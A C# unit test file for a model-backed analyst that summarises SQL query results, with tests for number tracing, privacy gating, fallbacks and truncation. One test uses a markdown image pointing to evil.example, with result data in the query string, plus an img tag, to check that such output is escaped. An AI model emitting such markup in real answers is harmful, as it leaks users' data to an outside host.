using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using NlSql.Core.Language.Analysis;
using NlSql.Core.Language.Generation;
using NlSql.Core.Language.Prompting;
using NlSql.Tests.Fakes;

namespace NlSql.Tests.Unit.Language.Analysis;

public sealed class ModelAnalystTests
{
    private static readonly AnalysisRequest Regions = Rows.Request(
        Rows.Columns("region:Text", "revenue:Decimal"), [["North", 600m], ["South", 300m], ["East", 100m]]);

    [Fact]
    public async Task AnalyzeAsync_MaySeeRows_ModelWritesAndItsNumbersAreChecked()
    {
        await using var model =
            await ScriptedModel.StartAsync(new ScriptedModelAnswer.Text("**North leads with 600 of 1,000 (60%).** It will reach 4,711 soon.", 7));

        var (text, finished) = await AnalyzeAsync(model.Url, "rows", Regions);

        Assert.Equal("model:scripted", finished.Writer);
        Assert.Equal(text, finished.Markdown);
        Assert.Equal([("600", "cell"), ("1,000", "sum"), ("60%", "share")], finished.Numbers.Select(number => (number.Text, number.Derivation)));
        Assert.Equal(["4,711"], finished.UntracedNumbers);
        Assert.NotEmpty(finished.FollowUps);
        Assert.Contains("North\t600", Assert.Single(model.Requests).Prompt, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("schema")]
    [InlineData("samples")]
    public async Task AnalyzeAsync_MayNotSeeRows_NothingLeavesAndBuiltInWrites(string sees)
    {
        await using var model = await ScriptedModel.StartAsync(new ScriptedModelAnswer.Text("never"));

        var (_, finished) = await AnalyzeAsync(model.Url, sees, Regions);

        Assert.Equal("built-in", finished.Writer);
        Assert.Empty(model.Requests);
        Assert.Contains("MODEL_SEES", Assert.Single(finished.Notes), StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnalyzeAsync_NoRows_NoModelIsAsked()
    {
        await using var model = await ScriptedModel.StartAsync(new ScriptedModelAnswer.Text("never"));

        var (_, finished) = await AnalyzeAsync(model.Url, "rows", Rows.Request(Rows.Columns("region:Text", "revenue:Decimal"), []));

        Assert.Equal("built-in", finished.Writer);
        Assert.Empty(model.Requests);
    }

    [Fact]
    public async Task AnalyzeAsync_RowsMayBePersonal_NothingLeavesAndTheNoteNamesTheTable()
    {
        await using var model = await ScriptedModel.StartAsync(new ScriptedModelAnswer.Text("never"));

        var (_, finished) = await AnalyzeAsync(model.Url, "rows", Regions with { PersonalSource = new("public", "customers") });

        Assert.Equal("built-in", finished.Writer);
        Assert.Empty(model.Requests);
        Assert.Contains("personal data of customers", Assert.Single(finished.Notes), StringComparison.Ordinal);
    }

    public static TheoryData<ScriptedModelAnswer> Failures() =>
    [
        ScriptedModelAnswer.Unauthorized,
        new ScriptedModelAnswer.Garbage(),
        new ScriptedModelAnswer.Text("   "),
        new ScriptedModelAnswer.HalfStream("**North leads wi"),
    ];

    [Theory]
    [MemberData(nameof(Failures))]
    public async Task AnalyzeAsync_ModelFails_BuiltInWritesWithANote(ScriptedModelAnswer answer)
    {
        await using var model = await ScriptedModel.StartAsync(answer);

        var (_, finished) = await AnalyzeAsync(model.Url, "rows", Regions);

        Assert.Equal("built-in", finished.Writer);
        Assert.StartsWith("**North has the highest revenue", finished.Markdown, StringComparison.Ordinal);
        Assert.StartsWith("Written by the built-in analyst.", Assert.Single(finished.Notes), StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnalyzeAsync_ModelWritesMarkup_IsMadeHarmless()
    {
        await using var model = await ScriptedModel.StartAsync(new ScriptedModelAnswer.Text("See ![x](http://evil.example/?d=600) <img src=x>", 1));

        var (_, finished) = await AnalyzeAsync(model.Url, "rows", Regions);

        Assert.Contains("!\\[x]", finished.Markdown, StringComparison.Ordinal);
        Assert.Contains("\\<img", finished.Markdown, StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnalyzeAsync_ApprovedStatement_IsShownAsPeopleWriteIt()
    {
        await using var model = await ScriptedModel.StartAsync(new ScriptedModelAnswer.Text("Fine."));

        await AnalyzeAsync(model.Url, "rows", Regions with { Sql = "SELECT pg_catalog.count(*) FROM sales.orders" });

        Assert.Contains("SELECT count(*)", model.Requests[0].Prompt, StringComparison.Ordinal);
        Assert.DoesNotContain("pg_catalog", model.Requests[0].Prompt, StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnalyzeAsync_ManyRows_SendsWhatFitsAndSaysSo()
    {
        await using var model = await ScriptedModel.StartAsync(new ScriptedModelAnswer.Text("Fine."));
        var rows = Enumerable.Range(0, 5000).Select(i => new object?[] { $"customer number {i}", (decimal)i }).ToList();

        var (_, finished) = await AnalyzeAsync(model.Url, "rows", Rows.Request(Rows.Columns("name:Text", "revenue:Decimal"), rows));

        Assert.True(model.Requests[0].Prompt.Length < 8192 * 4);
        Assert.Contains("of 5000 rows", Assert.Single(finished.Notes), StringComparison.Ordinal);
        Assert.Contains("rows only; there are more", model.Requests[0].Prompt, StringComparison.Ordinal);
    }

    private static async Task<(string Text, AnalysisFinished Finished)> AnalyzeAsync(Uri url, string sees, AnalysisRequest request)
    {
        var configuration = new ConfigurationBuilder().AddInMemoryCollection(new Dictionary<string, string?>
        {
            ["LLM_API_URL"] = url.ToString(),
            ["LLM_MODEL_NAME"] = "scripted",
            ["MODEL_SEES"] = sees,
        }).Build();
        await using var services = new ServiceCollection()
            .AddLogging()
            .AddPrompting(configuration)
            .AddGeneration(configuration)
            .AddAnalysis()
            .BuildServiceProvider();
        var text = string.Empty;
        AnalysisFinished? finished = null;
        await foreach (var item in services.GetRequiredService<IResultAnalyst>().AnalyzeAsync(request, CancellationToken.None))
        {
            text += (item as AnalysisText)?.Markdown;
            finished = item as AnalysisFinished;
        }

        Assert.NotNull(finished);
        return (text, finished);
    }
}
